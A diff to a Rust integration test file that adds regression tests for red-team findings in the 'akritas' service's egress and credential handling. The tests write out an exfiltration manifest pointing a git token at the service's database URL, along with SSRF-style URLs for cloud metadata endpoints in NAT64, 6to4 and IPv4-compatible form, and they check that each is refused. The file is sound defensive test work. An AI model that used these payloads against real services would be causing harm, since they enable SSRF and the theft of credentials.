@@ -1,14 +1,22 @@
-//! What a resource may start or read is decided by the service configuration, never by
-//! the resource (docs/architecture.md, Tenancy): driven through the real `akritas serve`
-//! in standalone mode, reading the conditions it derives at `/api/v1/resources`.
+//! What a resource may start, read or reach is decided by the service configuration,
+//! never by the resource (docs/architecture.md, Tenancy): driven through the real
+//! `akritas serve` in standalone mode, reading the conditions it derives at
+//! `/api/v1/resources`. Resource URLs and HTTP proxies (docs/tools.md, "Where resource
+//! URLs may lead"): a proxy named by `HTTP_PROXY`/`HTTPS_PROXY`/`ALL_PROXY` never carries
+//! them (it would resolve the destination out of the egress policy's sight), and the one
+//! an operator names in `egress_proxy` is handed only destinations the policy resolved
+//! and allowed; stand-in proxies record the request line of every connection.
 
 use akritas_testkit as support;
 
 use std::path::Path;
+use std::sync::{Arc, Mutex};
 use std::time::Duration;
 
 use serde_json::Value;
+use support::git_server::{GitServer, bare_repo};
 use support::{Server, poll, serve_command};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
 
 const UPSTREAM_KEY: &str = "sk-upstream-7f3a9c1e5b";
 const CLIENT_KEY: &str = "client-key-4d8e2a6c0f";
@@ -409,4 +417,335 @@ spec: {type: webhook, webhook: {url: \"http://10.96.0.12:9/hook\", bearerToken: 
         let check = condition(find(&all, "NotificationReceiver", "team-b", name), "EgressAllowed");
         assert_eq!(check["status"], "True", "{name}: {check}");
     }
+}
+
+const DATABASE_PASSWORD: &str = "db-pass-3c9e71f05a";
+const OPS_KEY: &str = "ops-key-8b2d4f6a1c";
+
+/// The red team's finding: with `resource_env` at its default (`AKRITAS_*`), a Workspace
+/// read `{env: AKRITAS_DATABASE_URL}` as its git token and sent the database URL, password
+/// included, to its own git server. The service's own credentials (the database URL, the
+/// API keys, the audit key, the upstream key) are never resolved for a resource, whatever
+/// `resource_env` says, and their values appear nowhere.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_resource_never_reads_the_database_url_or_an_api_key_variable() {
+    let database_url = format!("postgres://akritas:{DATABASE_PASSWORD}@db.internal:5432/akritas?sslmode=require");
+    let repos = tempfile::tempdir().unwrap();
+    bare_repo(repos.path(), "infra", &[("a.txt", "a\n")]);
+    // The attacker's git server accepts the database URL as its token.
+    let git = GitServer::start(repos.path(), &database_url);
+    let work = tempfile::tempdir().unwrap();
+    let manifests = format!(
+        "apiVersion: akritas.io/v1alpha1\nkind: Workspace\nmetadata: {{name: exfiltrate, namespace: default}}\n\
+         spec:\n  source:\n    git:\n      url: {}/infra.git\n      ref: main\n      \
+         auth: {{username: x, token: {{env: AKRITAS_DATABASE_URL}}}}\n---\n{}{}{}",
+        git.url,
+        alert_source("default", "database", "AKRITAS_DATABASE_URL"),
+        alert_source("default", "ops-key", "AKRITAS_OPS_KEY"),
+        alert_source("default", "team", "AKRITAS_TEAM_TOKEN"),
+    );
+    write(work.path(), "exfiltrate.yaml", &manifests);
+    let mut command = serve_command(env!("CARGO_BIN_EXE_akritas"));
+    command
+        .arg("--resources")
+        .arg(work.path())
+        .args(["--api-key", "default=AKRITAS_API_KEY,ops=AKRITAS_OPS_KEY:read"])
+        .env_remove("AKRITAS_RESOURCE_ENV")
+        .env("AKRITAS_DATABASE_URL", &database_url)
+        .env("AKRITAS_API_KEY", CLIENT_KEY)
+        .env("AKRITAS_OPS_KEY", OPS_KEY)
+        .env("AKRITAS_TEAM_TOKEN", "team-token-0123456789");
+    let server = Server::start(command);
+    let all = settled(&server).await;
+
+    for (kind, name, variable) in [
+        ("Workspace", "exfiltrate", "AKRITAS_DATABASE_URL"),
+        ("AlertSource", "database", "AKRITAS_DATABASE_URL"),
+        ("AlertSource", "ops-key", "AKRITAS_OPS_KEY"),
+    ] {
+        let (status, reason, message) = ready(find(&all, kind, "default", name));
+        assert_eq!((status.as_str(), reason.as_str()), ("False", "EnvNotAllowed"), "{kind}/{name}: {message}");
+        assert!(
+            message.contains(variable) && message.contains("the service's own credential"),
+            "{kind}/{name}: the message says why: {message}"
+        );
+    }
+    assert_eq!(ready(find(&all, "AlertSource", "default", "team")).0, "True", "other AKRITAS_* names still resolve");
+    assert!(
+        git.requests().iter().all(|request| !request.authorization),
+        "the git server was sent credentials: {:?}",
+        git.requests()
+    );
+    let health: Value = reqwest::get(format!("{}/health", server.url)).await.unwrap().json().await.unwrap();
+    let text = format!("{all}\n{health}\n{}", server.log_text());
+    for secret in [database_url.as_str(), DATABASE_PASSWORD, OPS_KEY, CLIENT_KEY] {
+        assert!(!text.contains(secret), "{secret} leaked into a status, /health or the log:\n{text}");
+    }
+}
+
+/// The model server: the operator's own endpoint, which may go through the environment's proxy.
+const MODEL_URL: &str = "http://127.0.0.1:9/v1";
+
+/// A stand-in HTTP proxy: records the first line of every connection (`POST
+/// http://host/mcp HTTP/1.1`, `CONNECT host:443 HTTP/1.1`) and answers 502.
+struct RecordingProxy {
+    url: String,
+    lines: Arc<Mutex<Vec<String>>>,
+}
+
+impl RecordingProxy {
+    async fn start() -> RecordingProxy {
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+        let url = format!("http://{}", listener.local_addr().unwrap());
+        let lines = Arc::new(Mutex::new(Vec::new()));
+        let seen = lines.clone();
+        tokio::spawn(async move {
+            while let Ok((mut stream, _)) = listener.accept().await {
+                let seen = seen.clone();
+                tokio::spawn(async move {
+                    let mut line = Vec::new();
+                    let mut byte = [0u8; 1];
+                    while !line.ends_with(b"\r\n") && line.len() < 4096 {
+                        match stream.read(&mut byte).await {
+                            Ok(1) => line.push(byte[0]),
+                            _ => break,
+                        }
+                    }
+                    seen.lock().unwrap().push(format!("connection: {}", String::from_utf8_lossy(&line).trim_end()));
+                    let answer = b"HTTP/1.1 502 Bad Gateway\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
+                    let _ = stream.write_all(answer).await;
+                });
+            }
+        });
+        RecordingProxy { url, lines }
+    }
+
+    fn lines(&self) -> Vec<String> {
+        self.lines.lock().unwrap().clone()
+    }
+}
+
+/// A stand-in MCP endpoint that counts the requests it receives and refuses each.
+async fn counting_endpoint() -> (String, Arc<Mutex<usize>>) {
+    let count = Arc::new(Mutex::new(0usize));
+    let seen = count.clone();
+    let app = axum::Router::new().fallback(move || {
+        let seen = seen.clone();
+        async move {
+            *seen.lock().unwrap() += 1;
+            (axum::http::StatusCode::BAD_REQUEST, "not an MCP server")
+        }
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    tokio::spawn(async move { axum::serve(listener, app).await });
+    (format!("http://localhost:{port}"), count)
+}
+
+/// The akritas command with every proxy variable pointing at `proxy`.
+fn with_proxy_environment(proxy: &str) -> std::process::Command {
+    let mut command = serve_command(env!("CARGO_BIN_EXE_akritas"));
+    for name in ["HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"] {
+        command.env(name, proxy);
+    }
+    command
+        .env_remove("NO_PROXY")
+        .env_remove("no_proxy")
+        .env("AKRITAS_API_KEY", CLIENT_KEY)
+        .env("AKRITAS_BASE_URL", MODEL_URL);
+    command
+}
+
+/// What the proxy carried besides the model server's requests.
+fn resource_lines(proxy: &RecordingProxy) -> Vec<String> {
+    proxy.lines().into_iter().filter(|line| !line.contains(&format!("{MODEL_URL}/"))).collect()
+}
+
+fn manifests(entries: &[(&str, &str, &str)]) -> String {
+    entries
+        .iter()
+        .map(|(kind, name, url)| match *kind {
+            "McpAdapter" => format!(
+                "apiVersion: akritas.io/v1alpha1\nkind: McpAdapter\nmetadata: {{name: {name}}}\n\
+                 spec: {{transport: {{http: {{url: \"{url}\"}}}}, allow: [read]}}\n---\n"
+            ),
+            "NotificationReceiver" => format!(
+                "apiVersion: akritas.io/v1alpha1\nkind: NotificationReceiver\nmetadata: {{name: {name}}}\n\
+                 spec: {{type: webhook, webhook: {{url: \"{url}\"}}}}\n---\n"
+            ),
+            _ => format!(
+                "apiVersion: akritas.io/v1alpha1\nkind: Workspace\nmetadata: {{name: {name}}}\n\
+                 spec: {{source: {{git: {{url: \"{url}\", ref: main}}}}}}\n---\n"
+            ),
+        })
+        .collect()
+}
+
+/// The red team's finding: with `HTTPS_PROXY` set, reqwest handed resource requests to
+/// the proxy, so the connect-time check never saw the destination (and Alibaba's metadata
+/// address and the NAT64/6to4 forms of link-local addresses were not refused at all).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_proxy_in_the_environment_never_carries_a_resource_request() {
+    let proxy = RecordingProxy::start().await;
+    let (endpoint, received) = counting_endpoint().await;
+    let repos = tempfile::tempdir().unwrap();
+    bare_repo(repos.path(), "infra", &[("a.txt", "a\n")]);
+    let git = GitServer::start(repos.path(), "git-token-5d1c8e");
+    let work = tempfile::tempdir().unwrap();
+    let refused = [
+        ("McpAdapter", "alibaba-metadata", "http://100.100.100.200/latest/meta-data/"),
+        ("NotificationReceiver", "azure-wireserver", "http://168.63.129.16/machine?comp=goalstate"),
+        ("NotificationReceiver", "nat64-metadata", "http://[64:ff9b::a9fe:a9fe]/latest/meta-data/"),
+        ("NotificationReceiver", "sixtofour-metadata", "http://[2002:a9fe:a9fe::1]/latest/meta-data/"),
+        ("Workspace", "compatible-metadata", "http://[::a9fe:a9fe]/infra.git"),
+    ];
+    let reached = [
+        ("McpAdapter", "direct-mcp", format!("{endpoint}/mcp")),
+        ("Workspace", "direct-git", format!("{}/infra.git", git.url)),
+    ];
+    let reached_entries: Vec<(&str, &str, &str)> = reached.iter().map(|(k, n, u)| (*k, *n, u.as_str())).collect();
+    let text = manifests(&refused) + &manifests(&reached_entries);
+    std::fs::write(work.path().join("egress.yaml"), text).unwrap();
+    let mut command = with_proxy_environment(&proxy.url);
+    command.arg("--resources").arg(work.path());
+    let server = Server::start(command);
+
+    let all = poll(Duration::from_secs(40), || async {
+        let all = resources(&server).await;
+        let refused_all =
+            refused.iter().all(|(kind, name, _)| ready(find(&all, kind, "default", name)).1 == "EgressNotAllowed");
+        let reached_all = *received.lock().unwrap() > 0 && !git.requests().is_empty();
+        // The model server is the operator's: it still honours the environment's proxy.
+        let model = proxy.lines().iter().any(|line| line.contains(&format!("GET {MODEL_URL}/models")));
+        (refused_all && reached_all && model).then_some(all)
+    })
+    .await
+    .map(|(all, _)| all);
+    let Some(all) = all else {
+        panic!(
+            "not every resource was refused or reached directly: {:#}\nproxy saw: {:?}\nlog:\n{}",
+            resources(&server).await,
+            proxy.lines(),
+            server.log_text()
+        );
+    };
+    for (kind, name, url) in refused {
+        let (status, _, message) = ready(find(&all, kind, "default", name));
+        assert_eq!(status, "False", "{kind}/{name}");
+        assert!(message.contains("egress_allow"), "{kind}/{name} ({url}): {message}");
+    }
+    let (_, _, message) = ready(find(&all, "McpAdapter", "default", "alibaba-metadata"));
+    assert!(message.contains("100.100.100.200") && message.contains("metadata"), "{message}");
+    let (_, _, message) = ready(find(&all, "NotificationReceiver", "default", "nat64-metadata"));
+    assert!(message.contains("NAT64") && message.contains("169.254.169.254"), "{message}");
+    let (_, _, message) = ready(find(&all, "NotificationReceiver", "default", "sixtofour-metadata"));
+    assert!(message.contains("6to4") && message.contains("169.254.169.254"), "{message}");
+    assert_eq!(resource_lines(&proxy), Vec::<String>::new(), "the environment's proxy carried a resource request");
+}
+
+/// The proxy an operator names in `egress_proxy` carries resource requests, and only to a
+/// destination that was resolved and allowed first: a name that does not resolve here is
+/// refused before the proxy sees it, and `HTTP(S)_PROXY` is still ignored.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_operator_proxy_receives_only_destinations_the_policy_resolved_and_allowed() {
+    let operator_proxy = RecordingProxy::start().await;
+    let environment_proxy = RecordingProxy::start().await;
+    let (endpoint, received) = counting_endpoint().await;
+    let repos = tempfile::tempdir().unwrap();
+    bare_repo(repos.path(), "infra", &[("a.txt", "a\n")]);
+    let git = GitServer::start(repos.path(), "git-token-5d1c8e");
+    let git_url = format!("{}/infra.git", git.url.replace("127.0.0.1", "localhost"));
+    let mcp_url = format!("{endpoint}/mcp");
+    let work = tempfile::tempdir().unwrap();
+    let text = manifests(&[
+        ("McpAdapter", "proxied-mcp", &mcp_url),
+        ("Workspace", "proxied-git", &git_url),
+        ("McpAdapter", "unresolvable", "http://nowhere.invalid/mcp"),
+        ("NotificationReceiver", "metadata", "http://[::ffff:100.100.100.200]/"),
+    ]);
+    std::fs::write(work.path().join("egress.yaml"), text).unwrap();
+    let mut command = with_proxy_environment(&environment_proxy.url);
+    command.arg("--resources").arg(work.path()).env("AKRITAS_EGRESS_PROXY", &operator_proxy.url);
+    let server = Server::start(command);
+
+    let mcp_line = format!("connection: POST {mcp_url} HTTP/1.1");
+    let git_line = format!("connection: GET {git_url}/info/refs?service=git-upload-pack HTTP/1.1");
+    let found = poll(Duration::from_secs(40), || async {
+        let all = resources(&server).await;
+        let lines = operator_proxy.lines();
+        let unresolvable = ready(find(&all, "McpAdapter", "default", "unresolvable"));
+        let settled = unresolvable.0 == "False" && unresolvable.2.contains("does not resolve");
+        (settled && lines.contains(&mcp_line) && lines.contains(&git_line)).then_some((all, unresolvable.2))
+    })
+    .await;
+    let Some(((all, unresolvable), _)) = found else {
+        panic!(
+            "the operator's proxy did not carry the requests: {:#}\nit saw: {:?}\nlog:\n{}",
+            resources(&server).await,
+            operator_proxy.lines(),
+            server.log_text()
+        );
+    };
+    assert!(unresolvable.contains("nowhere.invalid"), "{unresolvable}");
+    let (status, reason, message) = ready(find(&all, "NotificationReceiver", "default", "metadata"));
+    assert_eq!((status.as_str(), reason.as_str()), ("False", "EgressNotAllowed"), "{message}");
+    assert!(
+        operator_proxy.lines().iter().all(|line| !line.contains("nowhere.invalid") && !line.contains("100.100")),
+        "the proxy was handed a destination the policy did not allow: {:?}",
+        operator_proxy.lines()
+    );
+    assert_eq!(resource_lines(&environment_proxy), Vec::<String>::new(), "the environment's proxy carried a request");
+    assert_eq!(*received.lock().unwrap(), 0, "the request went around the operator's proxy");
+    assert!(git.requests().is_empty(), "the git request went around the operator's proxy");
+}
+
+fn chain(error: &reqwest::Error) -> String {
+    std::iter::successors(Some(error as &dyn std::error::Error), |e| e.source())
+        .map(ToString::to_string)
+        .collect::<Vec<_>>()
+        .join(": ")
+}
+
+/// The operator's proxy is handed a destination only after the policy resolved it and
+/// allowed every address: a name resolving to loopback (operator mode) or a refused
+/// literal never reaches it; an allowed one does.
+#[tokio::test]
+async fn the_operator_proxy_never_receives_a_destination_the_policy_refuses() {
+    akritas::install_crypto_provider();
+    let proxy = RecordingProxy::start().await;
+    let policy = akritas::egress::Egress::new(&["allowed.example".into()], false).with_proxy(Some(&proxy.url));
+    let client = akritas::egress::Resolver::with(policy).guard(reqwest::Client::builder()).build().unwrap();
+    for (url, expected) in [
+        ("http://localhost:9/x", "loopback"),
+        ("http://[64:ff9b::a9fe:a9fe]/x", "NAT64"),
+        ("http://169.254.169.254/latest/", "link-local"),
+        ("http://nowhere.invalid/x", "does not resolve"),
+    ] {
+        let error = client.get(url).send().await.unwrap_err();
+        let chain = chain(&error);
+        assert!(chain.contains(expected), "{url}: {chain}");
+    }
+    assert_eq!(proxy.lines(), Vec::<String>::new(), "the proxy saw a refused destination");
+    // A host egress_allow names is not resolved here: the proxy resolves it.
+    let answer = client.get("http://allowed.example/hook").send().await.unwrap();
+    assert_eq!(answer.status(), 502);
+    assert_eq!(proxy.lines(), ["connection: GET http://allowed.example/hook HTTP/1.1"]);
+}
+
+/// Without `egress_proxy`, no other proxy is followed (the variables' system proxy, or
+/// one set on the builder) and an address literal the policy refuses fails at connect
+/// time too, not only when read.
+#[tokio::test]
+async fn a_guarded_client_never_follows_the_proxy_variables_and_refuses_literals_at_connect() {
+    akritas::install_crypto_provider();
+    let proxy = RecordingProxy::start().await;
+    let environment = reqwest::Proxy::all(&proxy.url).unwrap();
+    let client = akritas::egress::Resolver::with(akritas::egress::Egress::new(&[], true))
+        .guard(reqwest::Client::builder().proxy(environment));
+    let client = client.build().unwrap();
+    let error = client.get("http://100.100.100.200/latest/meta-data/").send().await.unwrap_err();
+    assert!(chain(&error).contains("Alibaba Cloud's metadata service"), "{}", chain(&error));
+    let error = client.get("http://127.0.0.1:9/").send().await.unwrap_err();
+    assert!(chain(&error).contains("onnect"), "a direct connection was tried: {}", chain(&error));
+    assert_eq!(proxy.lines(), Vec::<String>::new());
 }
